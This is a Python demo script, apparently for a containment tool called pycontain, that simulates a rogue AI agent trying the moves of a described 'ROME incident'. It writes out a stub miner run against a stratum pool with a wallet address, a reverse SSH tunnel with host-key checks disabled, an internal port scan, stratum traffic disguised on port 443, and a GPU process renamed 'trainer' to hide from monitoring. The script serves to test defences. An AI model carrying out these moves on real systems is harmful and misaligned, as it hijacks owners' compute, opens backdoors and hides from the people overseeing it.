"""A simulated rogue agent (written for pycontain's demo; it mines nothing).

It does some legitimate work, then tries the moves of the ROME incident:
run a miner, reach a mining pool on a mining port, open a reverse SSH tunnel,
probe internal resources with a port scan, and speak the stratum mining
protocol over port 443 (which ends the agent). With --gpu (a second agent,
run by the demo afterwards) it diverts the GPU to a miner under an innocent
name. It
reports what it saw from the inside; the demo harness checks the outcome
from outside.
"""

from __future__ import annotations

import argparse
import errno
import json
import os
import socket
import subprocess
import sys
import time
import urllib.request


def say(msg: str) -> None:
    print(f"[rogue-agent] {msg}", flush=True)


def legit_work(pool: str, workdir: str) -> None:
    total = sum(i * i for i in range(200_000))
    with open(os.path.join(workdir, "result.txt"), "w") as fh:
        fh.write(f"{total}\n")
    say(f"legit work: computed a result ({total}) and saved it")
    try:
        body = urllib.request.urlopen(f"http://{pool}:80/", timeout=5).read()
        say(f"legit work: HTTP GET http://{pool}/ worked ({len(body)} bytes): ordinary web access is fine")
    except OSError as e:
        say(f"legit work: HTTP GET failed: {e}")


def move_miner(pool: str, workdir: str) -> None:
    miner = os.path.join(workdir, "xmrig")
    sentinel = os.path.join(workdir, "MINER_RAN")
    with open(miner, "w") as fh:
        fh.write(f"#!/bin/sh\ntouch {sentinel}\necho mining...\n")
    os.chmod(miner, 0o755)
    say(f"move 1: start a miner: ./xmrig -o stratum+tcp://{pool}:3333 -u 4AdUnd... --donate-level 1")
    wallet = ("4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5Uzq"
              "tReoS44qo9mtmXCqY45DJ852K5Jv2684Rge")
    r = subprocess.run([miner, "-o", f"stratum+tcp://{pool}:3333", "-u", wallet, "--donate-level", "1"],
                       capture_output=True, text=True)
    if r.returncode < 0:
        say(f"move 1: the miner was killed by signal {-r.returncode} before it printed anything")
    else:
        say(f"move 1: the miner ran (exit {r.returncode}): {r.stdout.strip()!r}")


def move_pool(pool: str) -> None:
    say(f"move 2: connect to a mining pool at {pool}:3333")
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect((pool, 3333))
        say("move 2: connected to the pool")
    except OSError as e:
        what = "EPERM: blocked in the kernel" if e.errno == errno.EPERM else str(e)
        say(f"move 2: connect failed: {what}")
    finally:
        s.close()


def move_tunnel(pool: str) -> None:
    cmd = ["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=3",
           "-N", "-R", "2222:localhost:22", f"agent@{pool}"]
    say("move 3: open a reverse tunnel: " + " ".join(cmd))
    try:
        r = subprocess.run(cmd, capture_output=True, text=True, timeout=10)
    except FileNotFoundError:
        say("move 3: no ssh client on this host; skipped")
        return
    except subprocess.TimeoutExpired:
        say("move 3: the tunnel stayed up (timeout)")
        return
    if r.returncode < 0:
        say(f"move 3: ssh was killed by signal {-r.returncode}")
    else:
        say(f"move 3: ssh exited {r.returncode}: {r.stderr.strip()[:120]!r}")


def move_stratum_443(pool: str) -> None:
    say(f"move 5: speak stratum to {pool}:443 (a port every firewall allows)")
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect((pool, 443))
        msg = json.dumps({"id": 1, "method": "mining.subscribe", "params": ["xmrig/6.21.0"]}) + "\n"
        s.sendall(msg.encode())
        say("move 5: subscribe sent; waiting for the pool...")
        time.sleep(3)
        say("move 5: still alive after speaking stratum")
    except OSError as e:
        say(f"move 5: failed: {e}")
    finally:
        s.close()


def move_gpu(workdir: str) -> None:
    """A miner renamed `trainer` (its comm) busy on the GPU; it writes its
    sentinel if it survives 10 s."""
    sentinel = os.path.join(workdir, "GPU_MINER_DONE")
    code = ("import ctypes, sys, time\n"
            "ctypes.CDLL(None).prctl(15, b'trainer', 0, 0, 0)\n"     # PR_SET_NAME: the name a GPU list shows
            "time.sleep(10)\n"
            f"open({sentinel!r}, 'w').close()\n")
    say("move 6: divert the GPU: a miner renamed 'trainer' hashes on GPU 0 for 10 s")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    if r.returncode < 0:
        say(f"move 6: the GPU miner was killed by signal {-r.returncode}")
    else:
        say(f"move 6: the GPU miner finished (exit {r.returncode})")


def move_probe(target: str, first: int = 1000, count: int = 1100) -> None:
    """A connect scan of the test host's ports (its IPv6 address, another
    host to the scan limits), as an agent probing internal services does."""
    say(f"move 4: probe internal resources: connect scan of {target} ports {first}-{first + count - 1}")
    tally = {"open": 0, "closed": 0, "EPERM": 0, "other": 0}
    for port in range(first, first + count):
        s = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET)
        s.settimeout(0.5)
        try:
            s.connect((target, port))
            tally["open"] += 1
        except OSError as e:
            key = {errno.ECONNREFUSED: "closed", errno.EPERM: "EPERM"}.get(e.errno or 0, "other")
            tally[key] += 1
        finally:
            s.close()
    say(f"move 4: scan result: {tally['open']} open, {tally['closed']} closed, "
        f"{tally['EPERM']} refused by the kernel (EPERM), {tally['other']} other")


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--pool", required=True)
    ap.add_argument("--workdir", required=True)
    ap.add_argument("--probe", help="address to scan (default: --pool)")
    ap.add_argument("--gpu", action="store_true", help="only the GPU move (the demo's second agent)")
    a = ap.parse_args()
    if a.gpu:
        move_gpu(a.workdir)
        return 0
    legit_work(a.pool, a.workdir)
    move_miner(a.pool, a.workdir)
    move_pool(a.pool)
    move_tunnel(a.pool)
    move_probe(a.probe or a.pool)
    move_stratum_443(a.pool)        # last: the default policy's stratum action kills the whole agent
    say("done")
    return 0


if __name__ == "__main__":
    sys.exit(main())
